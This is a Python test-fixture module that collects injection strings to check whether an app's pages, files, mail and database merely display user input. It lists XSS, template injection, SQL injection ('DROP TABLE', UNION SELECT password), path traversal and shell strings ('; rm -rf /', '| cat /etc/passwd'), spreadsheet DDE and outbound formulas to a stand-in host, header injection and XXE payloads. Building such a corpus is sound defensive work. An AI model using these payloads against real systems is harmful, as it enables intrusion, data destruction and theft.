"""Strings that somebody could type to make a page, a file, a mail or the database do something else than show them.

Each string that could run or become something carries `MARK`, or asks for `PRODUCT` to be worked out, so that what comes out of a page
or a file tells by itself whether it did.
"""

from __future__ import annotations

import base64

MARK = "xkwaad"
HOST = f"{MARK}.example"
PRODUCT = "982007569"  # 31337 times 31337: a template that works it out is not showing text
JS = f"window.{MARK}=1"
_B64 = base64.b64encode(f"<script>{JS}</script>".encode()).decode()

SCRIPT = (
    f"<script>{JS}</script>", f"<ScRiPt>{JS}</sCrIpT>", f"<script src=//{HOST}/x.js></script>", f"<script src='data:text/javascript,{JS}'></script>",
    f"<script type=module>{JS}</script>", f"</script><script>{JS}</script>", f"</title><script>{JS}</script>", f"</textarea><script>{JS}</script>",
    f"</style><script>{JS}</script>", f"</select><script>{JS}</script>", f"</option></select><img src=x onerror={JS}>",
    f"--><script>{JS}</script><!--", f"]]><script>{JS}</script>", f"<<script>{JS}//<</script>", f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f'<script\x20type="text/javascript">{JS}</script>', f"<script/x>{JS}</script>", f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f"<template><script>{JS}</script></template>", f"<xmp><img src=x onerror={JS}></xmp>", f"<plaintext><img src=x onerror={JS}>",
    f"<{MARK}-el onclick={JS}>x</{MARK}-el>", f"<{MARK}-el>x", f"<b {MARK}=1>x</b>",
)  # fmt: skip
ATTRIBUTE = (
    f"<img src=x onerror={JS}>", f'<img src=x onerror="{JS}">', f"<img/src=x/onerror={JS}>", f"<img src=x:x onerror=\n{JS}>",
    f'"><img src=x onerror={JS}>', f"'><img src=x onerror={JS}>", f'" onmouseover="{JS}" x="', f"' onmouseover='{JS}' x='", f"x onfocus={JS} autofocus",
    f'" autofocus onfocus="{JS}" x="', f'" {MARK}="1', f"' {MARK}='1", f"` {MARK}=`1", f'" style="background:url(//{HOST})" x="',
    f"<body onload={JS}>", f"<details open ontoggle={JS}>x</details>", f"<input autofocus onfocus={JS}>", f"<select autofocus onfocus={JS}>",
    f"<video><source onerror={JS}></video>", f"<audio src=x onerror={JS}>", f"<marquee onstart={JS}>x</marquee>", f"<p onclick={JS}>x</p>",
    f"<a href=x onclick={JS}>x</a>", f"<dialog open onclose={JS}>x</dialog>", f"<div popover id=p onbeforetoggle={JS}>x</div>",
    f'" hx-get="//{HOST}/" hx-trigger="load" x="', f"<div hx-on:load={JS} hx-get=/ hx-trigger=load>x</div>", f"<div data-hx-on--load={JS}>x</div>",
    f"&quot;><img src=x onerror={JS}>", f"&#34;><img src=x onerror={JS}>", f"&lt;script&gt;{JS}&lt;/script&gt;", f"&#x3c;script&#x3e;{JS}",
)  # fmt: skip
ADDRESS = (
    f"javascript:{JS}", f"JaVaScRiPt:{JS}", f" javascript:{JS}", f"java\tscript:{JS}", f"java\nscript:{JS}", f"\x01javascript:{JS}", f"javascript&colon;{JS}",
    f"javascript://%0a{JS}", f"vbscript:{JS}", f"data:text/html,<script>{JS}</script>", f"data:text/html;base64,{_B64}", f"feed:javascript:{JS}",
    f"<a href=javascript:{JS}>x</a>", f'<a href="java&#9;script:{JS}">x</a>', f"<iframe src=javascript:{JS}>", f"<iframe srcdoc='<script>{JS}</script>'>",
    f"<form action=javascript:{JS}><button>x</button></form>", f"<button formaction=javascript:{JS} form=f>x</button>", f"<base href=//{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>", f"<link rel=stylesheet href=//{HOST}/x.css>", f"<object data=//{HOST}/x></object>",
    f"<embed src=//{HOST}/x>", f"//{HOST}/pad", f"https://{HOST}/?q=<b {MARK}>", f"\\\\{HOST}\\deel", f"/\\{HOST}/", f"https:{HOST}",
)  # fmt: skip
SVG = (
    f"<svg onload={JS}>", f"<svg><script>{JS}</script></svg>", f"<svg><script href=data:,{JS} /></svg>", f"<svg><animate onbegin={JS} attributeName=x>",
    f"<svg><set attributeName=href to=javascript:{JS}><a><text>x", f"<svg><a xlink:href=javascript:{JS}><text>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml;base64,{_B64}#x /></svg>", f"<svg><foreignObject><body onload={JS}></foreignObject></svg>",
    f"<svg><image href=//{HOST}/x.png onerror={JS}></svg>", f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">', f"</svg><img src=x onerror={JS}>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={JS}>", f"<math href=javascript:{JS}>x</math>", f"</text><{MARK}-el/>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x",
)  # fmt: skip
STYLE = (
    f"<style>@import '//{HOST}/x.css';</style>", f"<style>*{{background:url(//{HOST}/)}}</style>", f"<p style=background:url(//{HOST}/)>x</p>",
    f'<p style="position:fixed;inset:0">{MARK}</p>', "expression(alert(1))", f"}}body{{background:url(//{HOST}/)}}", "</style>", "*/ body{display:none} /*",
)  # fmt: skip
TEMPLATE = (
    "{{31337*31337}}", "{{ 31337|add:0 }}{% widthratio 31337 1 31337 %}", "{% load static %}{% debug %}", '{% include "/etc/passwd" %}',
    "{{ request.user.password }}", "{{ settings.SECRET_KEY }}", "{{ block.super }}", "{% csrf_token %}", "{%", "{{", "{#", "{% endblock %}", "{% raw %}",
    "${31337*31337}", "#{31337*31337}", "<%= 31337*31337 %>", "*{31337*31337}", "{31337*31337}", "{0.__class__.__mro__}", "{x.__init__.__globals__}",
    "%(password)s", "%s%s%s%n%n", "{{constructor.constructor('return 31337*31337')()}}", "[[31337*31337]]", "$(expr 31337 \\* 31337)", "`expr 31337 \\* 31337`",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "@(31337*31337)", "{{= 31337*31337 }}", "{sessies}", "{{ sessies }}", "[[figuur:onbekend]]",
)  # fmt: skip
SQL = (
    "' OR 1=1 --", "'; DROP TABLE schools_school; --", '"; DELETE FROM networks_city; --', "' UNION SELECT password FROM accounts_user --",
    "1; SELECT pg_sleep(5)", "'||(SELECT pg_sleep(5))||'", "x'); SELECT set_config('app.programme', '1', false); --", "%' OR '%'='", "_%_%_%", "\\'; --",
    "$$; DROP TABLE jobs_job; $$", "E'\\x27'", "1e309", "NaN", "-9223372036854775809", "::text", "') OR EXISTS (SELECT 1", "/**/OR/**/1=1", "?id=1'", "U&'\\0027'",
)  # fmt: skip
PATH = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "CON", "nul.txt",
    "a/b/c", "~root/.ssh/id_rsa", ".", "..", "naam.pdf\x00.exe", "naam.pdf/../../x", "C:\\x", "\\\\host\\deel", "-rf *", "; rm -rf /", "| cat /etc/passwd", "$(id)", "`id`",
)  # fmt: skip
FORMULA = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", f'=HYPERLINK("https://{HOST}/"&A1,"klik")', "=cmd|' /C calc'!A0", f'=IMPORTXML("https://{HOST}/","//a")',
    f'=WEBSERVICE("https://{HOST}/")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\uff1d1+1", "'=1+1", '"=1+1"', "=1+1;=2+2",
    "x;=1+1", "x,=1+1", "x\n=1+1", "x\t=1+1", '=DDE("cmd";"/C calc";"x")', "%0A=1+1", "=-1", "+32 475 12 34 56", "-", "--", "=",
)  # fmt: skip
LINES = (
    f"x\r\n{MARK}: 1", f"x\n{MARK}: 1", f"x\r{MARK}: 1", f"x\r\n\r\n<script>{JS}</script>", f"x\r\nSet-Cookie: {MARK}=1", f"x\r\nBcc: {MARK}@voorbeeld.example",
    f"x\nBcc: {MARK}@voorbeeld.example\n\nx", f"x%0d%0a{MARK}: 1", f"x\u2028{MARK}: 1", f"x\u2029{MARK}: 1", f"x\x85{MARK}: 1", f"x\x0b{MARK}: 1", f"x\x0c{MARK}: 1",
    f"x\r\nContent-Type: text/html\r\n\r\n<{MARK}-el>", f"\r\n{MARK}: 1", f"x\r\nLocation: //{HOST}/", f"x\r\nBEGIN:VALARM\r\n{MARK}:1\r\nEND:VALARM",
    "x\r\n.\r\nMAIL FROM:<a@b>", "a@b.example,c@d.example", '"a\r\nTo: c@d.example" <a@b.example>', "=?utf-8?q?x=0d=0aBcc:_a@b.example?=", "x;\r\n filename=y.exe",
)  # fmt: skip
SIGNS = (
    "a\u202egpj.exe", "\u202e\u202d\u202c", "\u2066x\u2069", "\u200f\u200e", "\ufeff", "\u200b", "\u00ad", "\ufffd", "\uffff", "\U0010ffff", "😀",
    "👩\u200d👩\u200d👧\u200d👦", "🇧🇪", "مدرسة دافئة", "בית ספר חם", "مدرسة <b> 123", "한국어 학교", "日本語の学校", "ไทย", "Z̷̢͠a̶l̵g̷o̴" + "\u0336" * 60, "ﷺ" * 20, "İıſß", "ǅ", "Ⅷ", "½",
    "e\u0301", "\x1b[31mrood\x1b[0m", "\x07", "\x08\x08\x08", "\x7f", "\u0378", "\ue000", "𝕳𝖊𝖑𝖑𝖔", "a" * 300, "a" * 5_000, "<" * 400, "&" * 400, '"' * 300, "'" * 300, "\\" * 300, "(" * 2_000,
    "woord " * 800, "\n" * 200, "\t" * 50, " ", "\x00", "x\x00y", "null", "None", "undefined", "true", "0", "[object Object]",
)  # fmt: skip
MARKDOWN = (
    f"[x](javascript:{JS})", f"[x](java&#9;script:{JS})", f"![x](//{HOST}/x.png)", f'![x](x "onerror={JS}")', f"[x](//{HOST}/ '\" onclick={JS}')", f"<https://{HOST}/>",
    f"<javascript:{JS}>", f"[x]: javascript:{JS}\n\n[x]", f"[x][y]\n\n[y]: //{HOST}/", f"https://{HOST}/", f"www.{HOST}", f"iemand@{HOST}", f"# <img src=x onerror={JS}>",
    f"`<script>{JS}</script>`", f"```html\n<script>{JS}</script>\n```", f'``` "><img src=x onerror={JS}>\nx\n```', f"| <b {MARK}=1> |\n|---|\n| <script>{JS}</script> |",
    f"> <{MARK}-el>", f"1. <{MARK}-el>", f"**<{MARK}-el>**", "*" * 500, "[" * 500, "> " * 100 + "x", "- " * 200, "|" * 300, "![[" * 100, "~~~", "\\<b\\>", "&copy; &amp;lt;", "***x***" * 50,
)  # fmt: skip
DATA = (
    f'</script><script>{JS}</script><script>"', '"},"is_admin":true,"x":{"', '\\"}', "\\u003cscript\\u003e", '{"$gt": ""}', '{"__proto__": {"x": 1}}', "[]", "{}", '"',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><x>&c;</x>', f"<![CDATA[<{MARK}-el>]]>",
    '<w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText>', "_x003D_1+1", "_x000D_", f"</w:t></w:r><w:r><w:t>{MARK}", f"</t></si><si><t>{MARK}", f"<f>{MARK}</f>", "&#x0;", "&xxe;",
    f"(x) /JS ({JS}) /S /JavaScript", f"endstream endobj << /OpenAction << /S /JavaScript /JS ({JS}) >> >>", f"/URI (https://{HOST}/)", "%PDF-1.7", "ws_sleutel_" + "a" * 43, "Bearer abc",
)  # fmt: skip

STRINGS: dict[str, tuple[str, ...]] = {
    "script": SCRIPT,
    "attribute": ATTRIBUTE,
    "address": ADDRESS,
    "svg": SVG,
    "style": STYLE,
    "template": TEMPLATE,
    "sql": SQL,
    "path": PATH,
    "formula": FORMULA,
    "lines": LINES,
    "signs": SIGNS,
    "markdown": MARKDOWN,
    "data": DATA,
}
EVERY: tuple[str, ...] = tuple(dict.fromkeys(each for strings in STRINGS.values() for each in strings if each))
STORABLE: tuple[str, ...] = tuple(each for each in EVERY if "\x00" not in each)  # PostgreSQL holds no NUL, and refuses it
